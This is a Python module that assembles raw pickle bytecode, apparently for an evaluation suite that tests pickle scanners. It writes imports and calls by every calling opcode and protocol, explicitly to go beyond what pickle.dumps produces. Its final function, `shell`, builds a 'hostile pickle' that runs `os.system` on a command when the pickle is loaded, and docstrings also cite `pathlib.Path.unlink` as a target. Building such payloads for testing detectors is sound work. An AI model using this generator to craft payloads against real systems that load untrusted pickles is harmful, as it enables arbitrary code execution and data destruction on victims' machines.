"""An assembler for pickles: values, imports and calls as objects, any opcode for each of them.

Unlike `pickle.dumps` it writes what no object would: calls of any callable by every opcode that
calls, any protocol, names in any spelling.
"""

from __future__ import annotations

import struct
from dataclasses import dataclass, field
from typing import Any

STOP = b"."


@dataclass(frozen=True)
class Sym:
    """An import. `how` is GLOBAL, STACK_GLOBAL or empty for what suits the protocol."""

    module: str
    name: str
    how: str = ""


@dataclass(frozen=True, eq=False)
class Call:
    """A call of `callee`; `how` is the opcode: REDUCE, OBJ, INST, NEWOBJ or NEWOBJ_EX."""

    callee: Any
    args: tuple[Any, ...] = ()
    how: str = "REDUCE"
    keywords: dict[str, Any] = field(default_factory=dict)


@dataclass(frozen=True, eq=False)
class Build:
    """BUILD on `target` with `state`."""

    target: Any
    state: Any


@dataclass(frozen=True, eq=False)
class Items:
    """SETITEMS on `target`."""

    target: Any
    pairs: tuple[Any, ...]


@dataclass(frozen=True, eq=False)
class Appended:
    """APPENDS (or ADDITEMS) on `target`."""

    target: Any
    values: tuple[Any, ...]
    opcode: bytes = b"e"


@dataclass(frozen=True, eq=False)
class Pid:
    """A persistent id (BINPERSID)."""

    pid: Any


@dataclass(frozen=True, eq=False)
class Seq:
    """Several values of which only the last stays: the others are built and dropped."""

    values: tuple[Any, ...]


@dataclass(frozen=True)
class Raw:
    """Opcodes as they are."""

    code: bytes


def sym(dotted: str, how: str = "") -> Sym:
    """An import by dotted name: `os.system`, `pathlib.Path.unlink`, `socket:socket.connect`.

    Without a colon the name begins at the first part that looks like a class, or is the last part.
    """
    module, colon, name = dotted.partition(":")
    if not colon:
        parts = dotted.split(".")
        classes = (at for at, part in enumerate(parts) if at and part.lstrip("_")[:1].isupper())
        start = 1 if parts[0] == "builtins" else next(classes, len(parts) - 1)
        module, name = ".".join(parts[:start]), ".".join(parts[start:])
    return Sym(module, name, how)


def call(callee: Sym | str | Any, *args: Any, how: str = "REDUCE", **keywords: Any) -> Call:
    """A call, the callee by dotted name or as a value."""
    target = sym(callee) if isinstance(callee, str) else callee
    return Call(target, args, "NEWOBJ_EX" if keywords else how, keywords)


class Assembler:
    """Writes values as opcodes of one protocol."""

    def __init__(self, protocol: int) -> None:
        self.protocol = protocol

    def value(self, item: Any) -> bytes:
        """Return the opcodes that leave `item` on the stack."""
        for kind, method in self._METHODS.items():
            if isinstance(item, kind):
                return bytes(method(self, item))
        raise TypeError(f"cannot write {item!r}")

    def _raw(self, item: Raw) -> bytes:
        return item.code

    def _sym(self, item: Sym) -> bytes:
        how = item.how or ("STACK_GLOBAL" if self.protocol >= 4 else "GLOBAL")
        if how == "STACK_GLOBAL":
            return self._text(item.module) + self._text(item.name) + b"\x93"
        return f"c{item.module}\n{item.name}\n".encode()

    def _call(self, item: Call) -> bytes:
        if item.how == "INST":
            name = f"i{item.callee.module}\n{item.callee.name}\n".encode()
            return b"(" + self._all(item.args) + name
        callee = self.value(item.callee)
        if item.how == "OBJ":
            return b"(" + callee + self._all(item.args) + b"o"
        packed = self.value(tuple(item.args))
        if item.how == "NEWOBJ_EX":
            return callee + packed + self.value(item.keywords) + b"\x92"
        return callee + packed + {"REDUCE": b"R", "NEWOBJ": b"\x81"}[item.how]

    def _build(self, item: Build) -> bytes:
        return self.value(item.target) + self.value(item.state) + b"b"

    def _items(self, item: Items) -> bytes:
        return self.value(item.target) + b"(" + self._all(item.pairs) + b"u"

    def _appended(self, item: Appended) -> bytes:
        return self.value(item.target) + b"(" + self._all(item.values) + item.opcode

    def _pid(self, item: Pid) -> bytes:
        return self.value(item.pid) + b"Q"

    def _seq(self, item: Seq) -> bytes:
        return b"0".join(self.value(value) for value in item.values)

    def _all(self, values: tuple[Any, ...]) -> bytes:
        return b"".join(self.value(value) for value in values)

    def _text(self, item: str) -> bytes:
        data = item.encode("utf-8", "surrogatepass")
        if self.protocol == 0:
            return b"V" + item.encode("raw-unicode-escape").replace(b"\n", b"\\u000a") + b"\n"
        if self.protocol >= 4 and len(data) < 256:
            return b"\x8c" + bytes([len(data)]) + data
        return b"X" + struct.pack("<I", len(data)) + data

    def _bytes(self, item: bytes) -> bytes:
        if self.protocol < 3:
            return self.value(call("_codecs.encode", item.decode("latin-1"), "latin1"))
        if len(item) < 256:
            return b"C" + bytes([len(item)]) + item
        return b"B" + struct.pack("<I", len(item)) + item

    def _integer(self, item: int) -> bytes:
        if self.protocol == 0 or not -(1 << 31) <= item < 1 << 31:
            return f"I{item}\n".encode()
        return b"J" + struct.pack("<i", item)

    def _boolean(self, item: bool) -> bytes:
        if self.protocol < 2:
            return b"I01\n" if item else b"I00\n"
        return b"\x88" if item else b"\x89"

    def _float(self, item: float) -> bytes:
        return b"G" + struct.pack(">d", item) if self.protocol else f"F{item!r}\n".encode()

    def _tuple(self, item: tuple[Any, ...]) -> bytes:
        if self.protocol >= 2 and 0 < len(item) < 4:
            return self._all(item) + b"\x85\x86\x87"[len(item) - 1 : len(item)]
        return b"(" + self._all(item) + b"t"

    def _list(self, item: list[Any]) -> bytes:
        if self.protocol == 0:
            return b"(" + self._all(tuple(item)) + b"l"
        return b"](" + self._all(tuple(item)) + b"e"

    def _dict(self, item: dict[Any, Any]) -> bytes:
        flat = tuple(part for pair in item.items() for part in pair)
        return (
            (b"(" if self.protocol == 0 else b"}(")
            + self._all(flat)
            + (b"d" if self.protocol == 0 else b"u")
        )

    _METHODS = {
        Raw: _raw,
        Sym: _sym,
        Call: _call,
        Build: _build,
        Items: _items,
        Appended: _appended,
        Pid: _pid,
        Seq: _seq,
        str: _text,
        bytes: _bytes,
        bool: _boolean,
        int: _integer,
        float: _float,
        tuple: _tuple,
        list: _list,
        dict: _dict,
        type(None): lambda self, item: b"N",
    }


def header(protocol: int) -> bytes:
    """Return PROTO, which protocols 0 and 1 do not have."""
    return b"\x80" + bytes([protocol]) if protocol >= 2 else b""


def pickled(item: Any, protocol: int = 4, *, stop: bytes = STOP) -> bytes:
    """Return the pickle of a value."""
    body = Assembler(protocol).value(item) + stop
    if protocol >= 4:
        body = b"\x95" + struct.pack("<Q", len(body)) + body
    return header(protocol) + body


def shell(protocol: int = 4, command: str | None = None, how: str = "REDUCE") -> bytes:
    """Return the plainest hostile pickle: `os.system(command)`."""
    from evals.samples import COMMAND

    return pickled(call("posix.system", command or COMMAND, how=how), protocol)
